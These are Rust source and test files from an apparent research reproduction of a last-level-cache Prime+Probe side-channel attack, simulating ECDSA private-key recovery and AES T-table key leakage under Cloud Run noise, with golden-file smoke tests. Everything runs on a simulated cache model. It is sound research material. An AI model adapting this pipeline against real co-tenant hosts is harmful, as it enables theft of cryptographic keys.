        .unwrap();
    writeln!(w, "scanning 762-831 sets/s. The reproduced claims are the high PageOffset").unwrap();
    writeln!(w, "success rate and the WholeSys degradation caused by de-synchronisation.").unwrap();
    out
}

/// Renders the Step 4 key-recovery report: the fleet-sharded
/// multi-signature campaign plus the full end-to-end attack with recovery.
///
/// Scaling knobs (non-smoke mode): `LLC_SIGNATURES` (campaign signature
/// budget, default 8) and `LLC_FLIP_BUDGET` (max known-bit flips per
/// candidate, default 2).
pub fn e2e_key_report(opts: &RunOpts) -> String {
    let spec = opts.spec();
    let signatures = if opts.smoke { 6 } else { env_usize("LLC_SIGNATURES", 8) };
    let flips = if opts.smoke { 2 } else { env_usize("LLC_FLIP_BUDGET", 2) };
    let search = SearchConfig {
        max_candidates: if opts.smoke { 300 } else { env_usize("LLC_CANDIDATES", 4096) as u64 },
        max_flips: flips,
    };
    let nonce_bits = 48;
    let fleet = opts.fleet();
    let mut out = String::new();

    let w = &mut out;
    writeln!(
        w,
        "Step 4 — noisy-nonce key recovery ({}, Cloud Run noise{}{})",
        spec.name,
        fidelity_suffix(opts),
        tenant_suffix(opts)
    )
    .unwrap();
    writeln!(w).unwrap();
    writeln!(
        w,
        "== Multi-signature campaign ({nonce_bits}-bit nonces, one fresh signing per fleet trial) =="
    )
    .unwrap();
    let campaign = measure_key_recovery(
        &spec,
        Environment::CloudRun,
        opts.fidelity,
        opts.hierarchy_options(),
        &opts.tenant_population(spec.freq_ghz),
        nonce_bits,
        signatures,
        search,
        0x7ab1e7,
        &fleet,
    );
    writeln!(
        w,
        "{:<6} {:>10} {:>10} {:>10} {:>8} {:>10}",
        "Sig", "Bits obs.", "Erasures", "Examined", "Tested", "Recovered"
    )
    .unwrap();
    for row in &campaign.per_signature {
        writeln!(
            w,
            "{:<6} {:>10} {:>10} {:>10} {:>8} {:>10}",
            row.index,
            format!("{}/{}", row.observed_bits, campaign.ladder_bits),
            row.erasures,
            row.candidates_examined,
            row.candidates_tested,
            if row.recovered { "yes" } else { "no" }
        )
        .unwrap();
    }
    match campaign.signatures_needed {
        Some(n) => writeln!(
            w,
            "campaign: key recovered after {n} signature(s) | ground truth: {}",
            if campaign.matches_ground_truth { "MATCH" } else { "MISMATCH" }
        )
        .unwrap(),
        None => writeln!(
            w,
            "campaign: no signature broke within budget ({} observed)",
            campaign.per_signature.len()
        )
        .unwrap(),
    }

    writeln!(w).unwrap();
    writeln!(w, "== Full end-to-end attack with Step 4 (tiny host, 64-bit nonces) ==").unwrap();
    let report = run_end_to_end_key(signatures, flips, 0xa77ac4);
    writeln!(
        w,
        "evsets built {} | identified {} | correct {}",
        report.evset.sets_built, report.identify.identified, report.identify.correct
    )
    .unwrap();
    writeln!(
        w,
        "bits recovered (median) {} | bit errors {}",
        pct(report.extract.median_recovered_fraction()),
        pct(report.extract.mean_bit_error_rate())
    )
    .unwrap();
    match &report.recovery {
        Some(r) => {
            writeln!(
                w,
                "key recovered: {} | signatures {} | candidates tested {} | flips {}",
                if r.recovered_key.is_some() { "yes" } else { "no" },
                r.signatures_needed.map(|n| n.to_string()).unwrap_or_else(|| "-".into()),
                r.candidates_tested,
                r.flips.map(|f| f.to_string()).unwrap_or_else(|| "-".into())
            )
            .unwrap();
            writeln!(
                w,
                "ground truth: {} | key (hex): {}",
                if r.matches_ground_truth { "MATCH" } else { "MISMATCH" },
                r.recovered_key
                    .as_ref()
                    .map(|k| k.value().to_hex())
                    .unwrap_or_else(|| "-".into())
            )
            .unwrap();
        }
        None => writeln!(w, "key recovered: no (step 4 did not run)").unwrap(),
    }
    writeln!(w, "simulated attack time: {:.3} s", report.total_seconds()).unwrap();
    writeln!(w).unwrap();
    writeln!(w, "Paper: the end-to-end result is the victim's ECDSA private key, recovered")
        .unwrap();
    writeln!(w, "from partial nonces (median 81% of bits, 3% errors) via cryptanalytic").unwrap();
    writeln!(w, "post-processing; this harness closes the same loop with a confidence-ordered")
        .unwrap();
    writeln!(w, "correction search, verified against the victim's public key only.").unwrap();
    out
}

/// Renders the AES T-table first-round leak report: per-request detections
/// on the SF set of `T0`'s first line, correlated against known plaintexts
/// to recover the upper nibble of every `T0`-indexing key byte.
///
/// Scaling knobs (non-smoke mode): `LLC_AES_REQUESTS` (total victim
/// requests, default 256) and `LLC_TRIALS` (fleet batches, default 8).
pub fn aes_ttable_report(opts: &RunOpts) -> String {
    let spec = opts.spec();
    let requests = if opts.smoke { 96 } else { env_usize("LLC_AES_REQUESTS", 256) };
    let trials = opts.trials(4, 8);
    let fleet = opts.fleet();
    let mut out = String::new();

    let w = &mut out;
    writeln!(
        w,
        "AES T-table first-round leak ({}, Cloud Run noise{})",
        spec.name,
        fidelity_suffix(opts)
    )
    .unwrap();
    let outcome = measure_aes_ttable(
        &spec,
        Environment::CloudRun,
        opts.fidelity,
        opts.hierarchy_options(),
        requests,
        trials,
        0x7ab1e8,
        &fleet,
    );
    writeln!(
        w,
        "monitored: T0 line 0 (SF set) | requests observed: {} | detection rate: {}",
        outcome.requests,
        pct(outcome.detection_rate)
    )
    .unwrap();
    writeln!(w).unwrap();
    writeln!(w, "== Upper-nibble recovery via P(detect | p[i]>>4 = guess) ==").unwrap();
    writeln!(
        w,
        "{:<8} {:>6} {:>10} {:>12} {:>13} {:>9}",
        "Key byte", "True", "Recovered", "P(hit|best)", "P(hit|other)", "Correct"
    )
    .unwrap();
    for row in &outcome.per_byte {
        writeln!(
            w,
            "{:<8} {:>6} {:>10} {:>12} {:>13} {:>9}",
            format!("k[{}]", row.byte_index),
            format!("0x{:x}", row.true_nibble),
            format!("0x{:x}", row.recovered_nibble),
            pct(row.hit_rate_best),
            pct(row.hit_rate_rest),
            if row.recovered_nibble == row.true_nibble { "yes" } else { "no" }
        )
        .unwrap();
    }
    writeln!(w).unwrap();
    writeln!(
        w,
        "recovered {}/{} monitored key nibbles",
        outcome.correct,
        outcome.per_byte.len()
    )
    .unwrap();
    writeln!(w).unwrap();
    writeln!(w, "First-round T-table Prime+Probe: state byte i indexes T[i mod 4] with").unwrap();
    writeln!(w, "p[i]^k[i], so detections on one monitored table line, conditioned on the")
        .unwrap();
    writeln!(w, "known plaintext nibble, peak at the key's upper nibble. The reproduced claim")
        .unwrap();
    writeln!(w, "is that the paper's LLC/SF channel carries data-dependent victims beyond")
        .unwrap();
    writeln!(w, "ECDSA: key-dependent set usage survives Cloud Run background noise.").unwrap();
    out
}

// The report generators are covered end-to-end by `tests/experiment_smoke.rs`,
// which diffs their smoke output against the checked-in golden files (and
// would double the suite's runtime if repeated here as unit tests).
