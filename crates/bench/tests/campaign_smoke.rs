//! In-process campaign-layer smoke tests over the *real* sweep source.
//!
//! `llc-campaign`'s own suites prove the engine's resume contract with a
//! synthetic source; these tests close the loop with [`PruningSweep`] — the
//! production source whose workers hold pooled machines across cell
//! boundaries — and pin three properties:
//!
//! 1. a campaign killed at a chunk boundary and resumed (at a different
//!    thread count) renders the byte-identical consolidated report;
//! 2. machine construction is bounded by O(workers × distinct machine
//!    configurations), and a resume over complete records builds nothing;
//! 3. the rendered report is thread-count invariant.
//!
//! The cells are a trimmed slice of the `table3-sweep` preset (the cheap
//! scenarios only) so the suite stays inside the tier-1 budget; the full
//! 36-cell golden (`tests/golden/campaign_smoke.txt`) is diffed by the CI
//! smoke job against the release binary, including a kill-and-resume pass.

use llc_bench::sweeps::{build_preset, render_report, PruningSweep, SweepPreset};
use llc_bench::RunOpts;
use llc_campaign::{Campaign, CampaignOutcome, CampaignSpec, FaultPlan, Fleet, RunOptions};
use std::path::PathBuf;
use std::sync::atomic::{AtomicUsize, Ordering};

fn fresh_dir() -> PathBuf {
    static COUNTER: AtomicUsize = AtomicUsize::new(0);
    let dir = std::env::temp_dir().join(format!(
        "llc-campaign-smoke-{}-{}",
        std::process::id(),
        COUNTER.fetch_add(1, Ordering::Relaxed)
    ));
    let _ = std::fs::remove_dir_all(&dir);
    dir
}

/// A named smoke preset trimmed to the cells whose ids pass `keep`: same
/// machinery, tier-1-sized simulation. Rebuilt per call because a
/// [`PruningSweep`] owns its machine pool.
fn trim(
    preset: &str,
    name: &str,
    chunk_trials: u64,
    keep: impl Fn(&str) -> bool,
) -> (CampaignSpec, PruningSweep) {
    let SweepPreset { spec, source } =
        build_preset(preset, &RunOpts::smoke_with_threads(1)).expect("known preset");
    let kept: Vec<usize> =
        (0..spec.cells.len()).filter(|&i| keep(spec.cells[i].id.as_str())).collect();
    let cells = kept.iter().map(|&i| source.cells()[i].clone()).collect();
    let spec = CampaignSpec {
        name: name.into(),
        chunk_trials,
        cells: kept.iter().map(|&i| spec.cells[i].clone()).collect(),
        ..spec
    };
    let opts = RunOpts::smoke_with_threads(1);
    (spec.clone(), PruningSweep::new(cells, opts.fidelity, opts.hierarchy_options(), spec.master_seed))
}

/// The `table3-sweep` smoke preset trimmed to its cheap cells (modulo slice
/// hash, per-preset replacement).
fn trimmed() -> (CampaignSpec, PruningSweep) {
    trim("table3-sweep", "table3-sweep-trimmed", 2, |id| {
        id.contains("|modulo|") && id.ends_with("|preset") && !id.contains("|exclusive|")
    })
}

/// The `coresidency-grid` smoke preset trimmed to one mix at one neighbour
/// count — a static cell and a churned cell, so the resume path crosses a
/// tenant-bearing machine configuration of each kind. One trial per chunk,
/// so the two smoke trials give the kill leg a real chunk boundary.
fn trimmed_coresidency() -> (CampaignSpec, PruningSweep) {
    trim("coresidency-grid", "coresidency-grid-trimmed", 1, |id| id.starts_with("bursty|n1|"))
}

fn run(threads: usize, dir: &PathBuf, max_chunks: Option<u64>) -> (CampaignOutcome, u64, u64) {
    let (spec, source) = trimmed();
    let report = Campaign::new(spec, dir)
        .run(&Fleet::new(threads), &source, &RunOptions { max_chunks, ..RunOptions::default() })
        .expect("campaign runs");
    let stats = source.pool().stats();
    (report, stats.builds, stats.keys)
}

fn render(report: &CampaignOutcome) -> String {
    let (spec, source) = trimmed();
    render_report(&spec, source.cells(), &report.aggregates, &report.quarantined)
}

#[test]
fn killed_campaign_resumes_to_the_identical_report() {
    // Uninterrupted reference at 2 threads.
    let ref_dir = fresh_dir();
    let (reference, ref_builds, ref_keys) = run(2, &ref_dir, None);
    assert!(reference.complete);
    let _ = std::fs::remove_dir_all(&ref_dir);

    // Machine-construction bound: builds ≤ workers × distinct configurations
    // (2 workers may each materialise a sibling of every key's snapshot).
    assert_eq!(ref_keys, 2, "trimmed grid spans two machine configurations");
    assert!(
        ref_builds <= 2 * ref_keys,
        "{ref_builds} builds exceeds workers × {ref_keys} machine configurations"
    );

    // Kill at a chunk boundary, then resume at a different thread count.
    let dir = fresh_dir();
    let (partial, _, _) = run(2, &dir, Some(1));
    assert!(!partial.complete);
    assert_eq!(partial.chunks_run, 1);
    let (resumed, resumed_builds, _) = run(1, &dir, None);
    assert!(resumed.complete);
    assert_eq!(resumed.chunks_resumed, 1);
    assert_eq!(resumed.aggregates, reference.aggregates, "resume must be bit-identical");
    assert_eq!(render(&resumed), render(&reference), "rendered reports must match byte-for-byte");

    // A second run over the complete records is pure replay: no trials, no
    // machine construction.
    let (replayed, replay_builds, _) = run(2, &dir, None);
    assert_eq!(replay_builds, 0, "replaying complete records must build no machines");
    assert_eq!(replayed.chunks_run, 0);
    assert_eq!(replayed.aggregates, reference.aggregates);
    assert!(resumed_builds > 0, "the resume leg itself did run trials");
    let _ = std::fs::remove_dir_all(&dir);
}

#[test]
fn killed_coresidency_campaign_resumes_to_the_identical_report() {
    let render = |report: &CampaignOutcome| {
        let (spec, source) = trimmed_coresidency();
        render_report(&spec, source.cells(), &report.aggregates, &report.quarantined)
    };
    let run = |threads: usize, dir: &PathBuf, max_chunks: Option<u64>| {
        let (spec, source) = trimmed_coresidency();
        Campaign::new(spec, dir)
            .run(&Fleet::new(threads), &source, &RunOptions { max_chunks, ..RunOptions::default() })
            .expect("campaign runs")
    };

    // Uninterrupted reference at 2 threads.
    let ref_dir = fresh_dir();
    let reference = run(2, &ref_dir, None);
    assert!(reference.complete);
    let _ = std::fs::remove_dir_all(&ref_dir);

    // Kill at a chunk boundary, resume at a different thread count: the
    // churned tenant populations must re-derive bit-identically from the
    // per-trial seeds recorded in the checkpoint. (The kill leg runs on one
    // worker so the one-chunk bound bites before the second cell starts.)
    let dir = fresh_dir();
    let partial = run(1, &dir, Some(1));
    assert!(!partial.complete);
    let resumed = run(2, &dir, None);
    assert!(resumed.complete);
    assert!(resumed.chunks_resumed > 0);
    assert_eq!(resumed.aggregates, reference.aggregates, "resume must be bit-identical");
    assert_eq!(render(&resumed), render(&reference), "rendered reports must match byte-for-byte");
    let _ = std::fs::remove_dir_all(&dir);

    // And the report is thread-count invariant.
    let dir8 = fresh_dir();
    let threaded = run(8, &dir8, None);
    assert_eq!(render(&threaded), render(&reference));
    let _ = std::fs::remove_dir_all(&dir8);
}

#[test]
fn chaos_run_resumes_to_the_fault_free_report() {
    // Fault-free reference.
    let ref_dir = fresh_dir();
    let (reference, _, _) = run(2, &ref_dir, None);
    assert!(reference.complete);
    assert!(reference.quarantined.is_empty());
    let _ = std::fs::remove_dir_all(&ref_dir);

    // Chaos leg: one transient trial panic (heals under retry, same seed)
    // plus a torn record line (wedges the sink → typed error, and the torn
    // line is the file's final line — the legal kill artifact).
    let plan = FaultPlan::parse("panic@2,torn@1").expect("valid plan");
    let dir = fresh_dir();
    let (spec, source) = trimmed();
    let err = Campaign::new(spec, &dir)
        .run(
            &Fleet::new(2),
            &source,
            &RunOptions { fault_plan: Some(plan), ..RunOptions::default() },
        )
        .expect_err("the torn append wedges the sink");
    let msg = err.to_string();
    assert!(msg.contains("injected fault"), "unexpected error: {msg}");

    // Fault-free resume over the damaged directory: recover the torn tail,
    // re-run what's missing, and match the reference byte for byte.
    let (resumed, _, _) = run(1, &dir, None);
    assert!(resumed.complete);
    assert!(resumed.recovered_tail, "the torn final line must be recovered, not fatal");
    assert!(resumed.quarantined.is_empty(), "transient faults leave no quarantine residue");
    assert_eq!(resumed.aggregates, reference.aggregates, "chaos resume must be bit-identical");
    assert_eq!(render(&resumed), render(&reference), "rendered reports must match byte-for-byte");
    let _ = std::fs::remove_dir_all(&dir);
}

#[test]
fn campaign_report_is_thread_count_invariant() {
    let mut rendered = Vec::new();
    for threads in [1usize, 2] {
        let dir = fresh_dir();
        let (report, _, _) = run(threads, &dir, None);
        assert!(report.complete);
        rendered.push(render(&report));
        let _ = std::fs::remove_dir_all(&dir);
    }
    assert_eq!(rendered[0], rendered[1]);
    // Spot-check shape: one row per cell plus the two header lines.
    assert_eq!(rendered[0].lines().count(), 2 + 6, "{}", rendered[0]);
}
