//! Step-1 equivalence: eviction-set construction under aggregate noise must
//! be statistically indistinguishable from the exact per-event reference.
//!
//! The machine-level harness (`llc-machine/tests/noise_equivalence.rs`) pins
//! the low-level signals — eviction probability, probe latency, event
//! counts. This suite closes the loop at the algorithm level: the Table 3/4
//! pruning success rate, the quantity the paper's evaluation actually
//! reports, must agree across fidelities within a pooled two-proportion
//! bound, and the aggregate mode must stay deterministic and
//! thread-count-invariant so it is usable by the golden smoke tests and CI.
//!
//! Seeded by `LLC_EQUIV_SEED` (pinned default) like the machine-level suite.

use llc_bench::experiments::{measure_single_set, Environment};
use llc_cache_model::{CacheSpec, HierarchyOptions};
use llc_core::Algorithm;
use llc_fleet::stats::compare_rates;
use llc_fleet::Fleet;
use llc_machine::NoiseFidelity;

fn equiv_seed() -> u64 {
    std::env::var("LLC_EQUIV_SEED")
        .ok()
        .and_then(|v| v.parse().ok())
        .unwrap_or(0xE901_5EED)
}

const TRIALS: usize = 12;

fn success_hits(fidelity: NoiseFidelity, environment: Environment) -> u64 {
    let stats = measure_single_set(
        &CacheSpec::tiny_test(),
        environment,
        fidelity,
        HierarchyOptions::default(),
        Algorithm::BinS,
        true,
        TRIALS,
        equiv_seed(),
        &Fleet::single(),
    );
    (stats.success_rate * TRIALS as f64).round() as u64
}

#[test]
fn pruning_success_rate_matches_across_fidelities() {
    for environment in Environment::all() {
        let exact = success_hits(NoiseFidelity::Exact, environment);
        let aggregate = success_hits(NoiseFidelity::Aggregate, environment);
        let rates = compare_rates(exact, TRIALS as u64, aggregate, TRIALS as u64);
        assert!(
            rates.within(4.0),
            "{}: success rates diverged: exact {:.2} vs aggregate {:.2} (z = {:.2})",
            environment.label(),
            rates.rate_a,
            rates.rate_b,
            rates.z
        );
        // At these trial counts both modes should succeed most of the time;
        // a dead aggregate mode (rate 0) would still pass a pure z test at
        // tiny samples if exact also collapsed, so anchor the level too.
        assert!(
            rates.rate_b > 0.5,
            "{}: aggregate success rate collapsed to {:.2}",
            environment.label(),
            rates.rate_b
        );
    }
}

#[test]
fn aggregate_construction_is_deterministic_and_thread_invariant() {
    let run = |threads: usize| {
        measure_single_set(
            &CacheSpec::tiny_test(),
            Environment::CloudRun,
            NoiseFidelity::Aggregate,
            HierarchyOptions::default(),
            Algorithm::BinS,
            true,
            6,
            equiv_seed(),
            &Fleet::new(threads).with_chunk(1),
        )
    };
    let serial = run(1);
    assert_eq!(serial, run(1), "same-seed aggregate runs must be identical");
    assert_eq!(serial, run(4), "aggregate results must not depend on thread count");
}
