//! Golden smoke tests for the experiment binaries.
//!
//! `table{3,4,5,6} --smoke` are generated **in-process** through
//! `llc_bench::reports` (the binaries are one-line wrappers around the same
//! functions) and compared byte-for-byte against the checked-in expected
//! output under `tests/golden/`. Any change to the simulation, the seed
//! derivation, or the aggregation shows up as a golden diff — including the
//! cache-storage layout rewrites, whose replacement semantics these files
//! pin.
//!
//! The smoke configuration is pinned (fixed 4-slice host, fixed trial
//! counts, no environment-variable dependence) and, because trial seeds are
//! derived from `(master seed, trial index)` and aggregation is
//! order-independent, the same bytes must come back at any thread count —
//! which these tests also assert.
//!
//! To regenerate after an intentional change:
//! `cargo run --release -p llc-bench --bin table3 -- --smoke > crates/bench/tests/golden/table3_smoke.txt`
//! (same for table4/table5/table6, and with `--noise-fidelity aggregate`
//! for `table3_aggregate_smoke.txt`), then review the diff like any other
//! code change.

use llc_bench::{reports, RunOpts};
use llc_machine::NoiseFidelity;

const TABLE3_GOLDEN: &str = include_str!("golden/table3_smoke.txt");
const TABLE3_AGGREGATE_GOLDEN: &str = include_str!("golden/table3_aggregate_smoke.txt");
const TABLE4_GOLDEN: &str = include_str!("golden/table4_smoke.txt");
const TABLE5_GOLDEN: &str = include_str!("golden/table5_smoke.txt");
const TABLE6_GOLDEN: &str = include_str!("golden/table6_smoke.txt");
const E2E_KEY_GOLDEN: &str = include_str!("golden/e2e_key_smoke.txt");
const E2E_KEY_CORESIDENCY_GOLDEN: &str = include_str!("golden/e2e_key_coresidency_smoke.txt");
const AES_TTABLE_GOLDEN: &str = include_str!("golden/aes_ttable_smoke.txt");

/// Diffs `actual` against `expected` with a readable first-mismatch report.
fn assert_matches_golden(name: &str, actual: &str, expected: &str) {
    if actual == expected {
        return;
    }
    for (i, (a, e)) in actual.lines().zip(expected.lines()).enumerate() {
        assert_eq!(
            a,
            e,
            "{name}: first difference at line {} (regenerate the golden file if intentional)",
            i + 1
        );
    }
    let (a, e) = (actual.lines().count(), expected.lines().count());
    if a != e {
        panic!("{name}: line count differs (actual {a} vs golden {e})");
    }
    // Same lines but different bytes: trailing newline / terminator drift.
    assert_eq!(actual, expected, "{name}: outputs differ only in line-terminator bytes");
}

#[test]
fn table3_smoke_matches_golden() {
    let report = reports::table3_report(&RunOpts::smoke_with_threads(2));
    assert_matches_golden("table3 --smoke", &report, TABLE3_GOLDEN);
}

#[test]
fn table3_aggregate_smoke_matches_golden() {
    let opts = RunOpts::smoke_with_threads(2).with_fidelity(NoiseFidelity::Aggregate);
    let report = reports::table3_report(&opts);
    assert_matches_golden("table3 --smoke --noise-fidelity aggregate", &report, TABLE3_AGGREGATE_GOLDEN);
    // The aggregate report must be a *different* simulation (labelled as
    // such), not a silent fall-through to the exact path.
    assert!(report.contains("noise fidelity: aggregate"));
    assert_ne!(report, TABLE3_GOLDEN, "aggregate smoke must not equal the exact golden");
}

#[test]
fn table3_aggregate_smoke_is_thread_count_invariant() {
    let run = |threads: usize| {
        reports::table3_report(
            &RunOpts::smoke_with_threads(threads).with_fidelity(NoiseFidelity::Aggregate),
        )
    };
    let one = run(1);
    assert_eq!(
        one,
        run(8),
        "table3 --smoke --noise-fidelity aggregate must be byte-identical at 1 and 8 threads"
    );
    assert_matches_golden(
        "table3 --smoke --noise-fidelity aggregate --threads 1",
        &one,
        TABLE3_AGGREGATE_GOLDEN,
    );
}

#[test]
fn table4_smoke_matches_golden() {
    let report = reports::table4_report(&RunOpts::smoke_with_threads(2));
    assert_matches_golden("table4 --smoke", &report, TABLE4_GOLDEN);
}

#[test]
fn table5_smoke_matches_golden() {
    let report = reports::table5_report(&RunOpts::smoke_with_threads(2));
    assert_matches_golden("table5 --smoke", &report, TABLE5_GOLDEN);
}

#[test]
fn table6_smoke_matches_golden() {
    let report = reports::table6_report(&RunOpts::smoke_with_threads(2));
    assert_matches_golden("table6 --smoke", &report, TABLE6_GOLDEN);
}

#[test]
fn e2e_key_smoke_matches_golden() {
    let report = reports::e2e_key_report(&RunOpts::smoke_with_threads(2));
    assert_matches_golden("e2e_key --smoke", &report, E2E_KEY_GOLDEN);
    // The golden file itself must record a successful, ground-truth-matching
    // key recovery — the repository's headline claim. Guard against a
    // regenerated golden silently locking in a broken attack.
    assert!(E2E_KEY_GOLDEN.contains("campaign: key recovered after"));
    assert!(E2E_KEY_GOLDEN.contains("key recovered: yes"));
    assert!(!E2E_KEY_GOLDEN.contains("MISMATCH"));
}

#[test]
fn e2e_key_smoke_is_thread_count_invariant() {
    let one = reports::e2e_key_report(&RunOpts::smoke_with_threads(1));
    let eight = reports::e2e_key_report(&RunOpts::smoke_with_threads(8));
    assert_eq!(one, eight, "e2e_key --smoke must be byte-identical at 1 and 8 threads");
    assert_matches_golden("e2e_key --smoke --threads 1", &one, E2E_KEY_GOLDEN);
}

/// Options for the co-residency key-recovery smoke: the pinned smoke host
/// plus two idle sidecars and one bursty web neighbour.
fn coresidency_opts(threads: usize) -> RunOpts {
    RunOpts::smoke_with_threads(threads).with_tenants("2*idle,1*bursty-web")
}

#[test]
fn e2e_key_coresidency_smoke_matches_golden() {
    let report = reports::e2e_key_report(&coresidency_opts(2));
    assert_matches_golden(
        "e2e_key --smoke --tenants 2*idle,1*bursty-web",
        &report,
        E2E_KEY_CORESIDENCY_GOLDEN,
    );
    // The headline claim of the tenant layer: key recovery still succeeds
    // with modelled co-resident neighbours posting real cache traffic, and
    // the report header says which population ran.
    assert!(E2E_KEY_CORESIDENCY_GOLDEN.contains("tenants: 2*idle+1*bursty-web"));
    assert!(E2E_KEY_CORESIDENCY_GOLDEN.contains("campaign: key recovered after"));
    assert!(E2E_KEY_CORESIDENCY_GOLDEN.contains("key recovered: yes"));
    assert!(!E2E_KEY_CORESIDENCY_GOLDEN.contains("MISMATCH"));
    // And the neighbours are not decorative: their traffic changes the
    // simulation relative to the tenant-free smoke golden.
    assert_ne!(report, E2E_KEY_GOLDEN, "tenant population must perturb the simulation");
}

#[test]
fn e2e_key_coresidency_smoke_is_thread_count_invariant() {
    let one = reports::e2e_key_report(&coresidency_opts(1));
    let eight = reports::e2e_key_report(&coresidency_opts(8));
    assert_eq!(
        one, eight,
        "e2e_key --smoke --tenants ... must be byte-identical at 1 and 8 threads"
    );
    assert_matches_golden(
        "e2e_key --smoke --tenants 2*idle,1*bursty-web --threads 1",
        &one,
        E2E_KEY_CORESIDENCY_GOLDEN,
    );
}

#[test]
fn aes_ttable_smoke_matches_golden() {
    let report = reports::aes_ttable_report(&RunOpts::smoke_with_threads(2));
    assert_matches_golden("aes_ttable --smoke", &report, AES_TTABLE_GOLDEN);
    // The golden must record a *working* data-dependent leak: all four
    // monitored upper nibbles recovered from key-dependent set usage.
    assert!(AES_TTABLE_GOLDEN.contains("recovered 4/4 monitored key nibbles"));
}

#[test]
fn aes_ttable_smoke_is_thread_count_invariant() {
    let one = reports::aes_ttable_report(&RunOpts::smoke_with_threads(1));
    let eight = reports::aes_ttable_report(&RunOpts::smoke_with_threads(8));
    assert_eq!(one, eight, "aes_ttable --smoke must be byte-identical at 1 and 8 threads");
    assert_matches_golden("aes_ttable --smoke --threads 1", &one, AES_TTABLE_GOLDEN);
}

#[test]
fn effective_fidelity_is_surfaced_in_report_headers() {
    // Aggregate + an active reuse predictor silently degrades the noise
    // engine to per-event replay; the report header must say so.
    let opts = RunOpts {
        reuse_insert_probability: 0.5,
        ..RunOpts::smoke_with_threads(1).with_fidelity(NoiseFidelity::Aggregate)
    };
    let report = reports::aes_ttable_report(&opts);
    assert!(
        report.contains("noise fidelity: aggregate (effective: exact — reuse predictor active)"),
        "header must surface the aggregate→exact degradation: {report}"
    );
}

#[test]
fn table3_smoke_is_thread_count_invariant() {
    let one = reports::table3_report(&RunOpts::smoke_with_threads(1));
    let eight = reports::table3_report(&RunOpts::smoke_with_threads(8));
    assert_eq!(one, eight, "table3 --smoke must be byte-identical at 1 and 8 threads");
    assert_matches_golden("table3 --smoke --threads 1", &one, TABLE3_GOLDEN);
}

#[test]
fn table5_smoke_is_thread_count_invariant() {
    let one = reports::table5_report(&RunOpts::smoke_with_threads(1));
    let eight = reports::table5_report(&RunOpts::smoke_with_threads(8));
    assert_eq!(one, eight, "table5 --smoke must be byte-identical at 1 and 8 threads");
    assert_matches_golden("table5 --smoke --threads 1", &one, TABLE5_GOLDEN);
}

#[test]
fn table6_smoke_is_thread_count_invariant() {
    let one = reports::table6_report(&RunOpts::smoke_with_threads(1));
    let eight = reports::table6_report(&RunOpts::smoke_with_threads(8));
    assert_eq!(one, eight, "table6 --smoke must be byte-identical at 1 and 8 threads");
    assert_matches_golden("table6 --smoke --threads 1", &one, TABLE6_GOLDEN);
}
