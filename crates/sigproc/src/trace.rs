//! Conversion of timestamped access traces into uniformly sampled signals.
//!
//! A Prime+Probe monitor produces a list of detection timestamps (cycles).
//! To analyse the trace in the frequency domain it is binned into a regular
//! time series: bin `i` counts the detections in `[i·Δ, (i+1)·Δ)`. The bin
//! width Δ sets the sampling rate of the PSD estimate.

/// A uniformly-sampled signal derived from a timestamped event trace.
#[derive(Debug, Clone, PartialEq)]
pub struct BinnedTrace {
    samples: Vec<f64>,
    bin_width_cycles: u64,
    freq_ghz: f64,
}

impl BinnedTrace {
    /// Bins event `timestamps` (cycles, need not be sorted) spanning
    /// `duration_cycles`, using bins of `bin_width_cycles`, on a machine
    /// running at `freq_ghz`.
    ///
    /// # Panics
    ///
    /// Panics if `bin_width_cycles` is zero.
    pub fn from_timestamps(
        timestamps: &[u64],
        start_cycle: u64,
        duration_cycles: u64,
        bin_width_cycles: u64,
        freq_ghz: f64,
    ) -> Self {
        assert!(bin_width_cycles > 0, "bin width must be non-zero");
        let bins = (duration_cycles / bin_width_cycles).max(1) as usize;
        let mut samples = vec![0.0f64; bins];
        for &t in timestamps {
            if t < start_cycle {
                continue;
            }
            let idx = ((t - start_cycle) / bin_width_cycles) as usize;
            if idx < bins {
                samples[idx] += 1.0;
            }
        }
        Self { samples, bin_width_cycles, freq_ghz }
    }

    /// The binned samples (event counts per bin).
    pub fn samples(&self) -> &[f64] {
        &self.samples
    }

    /// The sampling rate of this signal in Hz.
    pub fn sample_rate_hz(&self) -> f64 {
        self.freq_ghz * 1e9 / self.bin_width_cycles as f64
    }

    /// Total number of events captured in the binning window.
    pub fn total_events(&self) -> usize {
        self.samples.iter().sum::<f64>() as usize
    }

    /// Number of bins.
    pub fn len(&self) -> usize {
        self.samples.len()
    }

    /// True if the trace has no bins.
    pub fn is_empty(&self) -> bool {
        self.samples.is_empty()
    }
}

/// Converts a victim access period in cycles to the frequency (Hz) at which a
/// PSD peak is expected, for a machine at `freq_ghz`.
pub fn period_cycles_to_hz(period_cycles: u64, freq_ghz: f64) -> f64 {
    if period_cycles == 0 {
        return 0.0;
    }
    freq_ghz * 1e9 / period_cycles as f64
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn binning_counts_events_per_bin() {
        let trace = BinnedTrace::from_timestamps(&[0, 10, 95, 100, 150, 210], 0, 300, 100, 2.0);
        assert_eq!(trace.len(), 3);
        assert_eq!(trace.samples(), &[3.0, 2.0, 1.0]);
        assert_eq!(trace.total_events(), 6);
    }

    #[test]
    fn events_outside_window_are_dropped() {
        let trace = BinnedTrace::from_timestamps(&[5, 250, 400], 100, 200, 100, 2.0);
        assert_eq!(trace.samples(), &[0.0, 1.0]);
    }

    #[test]
    fn sample_rate_matches_bin_width() {
        let trace = BinnedTrace::from_timestamps(&[], 0, 1_000_000, 2_000, 2.0);
        // 2 GHz / 2000 cycles per bin = 1 MHz sampling.
        assert!((trace.sample_rate_hz() - 1e6).abs() < 1e-6);
    }

    #[test]
    fn period_conversion_matches_paper_example() {
        // 4,850-cycle victim access period at 2 GHz ≈ 0.41 MHz (Section 6.2).
        let f = period_cycles_to_hz(4850, 2.0);
        assert!((f - 412_371.0).abs() < 1_000.0, "got {f}");
        assert_eq!(period_cycles_to_hz(0, 2.0), 0.0);
    }

    #[test]
    fn psd_of_binned_periodic_trace_peaks_at_victim_frequency() {
        use crate::welch::{welch_psd, WelchConfig};
        // Simulate victim accesses every 4,850 cycles for 1 ms at 2 GHz.
        let period = 4850u64;
        let duration = 2_000_000u64;
        let timestamps: Vec<u64> = (0..duration / period).map(|i| i * period).collect();
        let trace = BinnedTrace::from_timestamps(&timestamps, 0, duration, 500, 2.0);
        let psd = welch_psd(
            trace.samples(),
            &WelchConfig { sample_rate_hz: trace.sample_rate_hz(), ..Default::default() },
        );
        let expected = period_cycles_to_hz(period, 2.0);
        let ratio = psd.peak_to_average_ratio(expected, 3.0 * psd.resolution_hz(), 50_000.0);
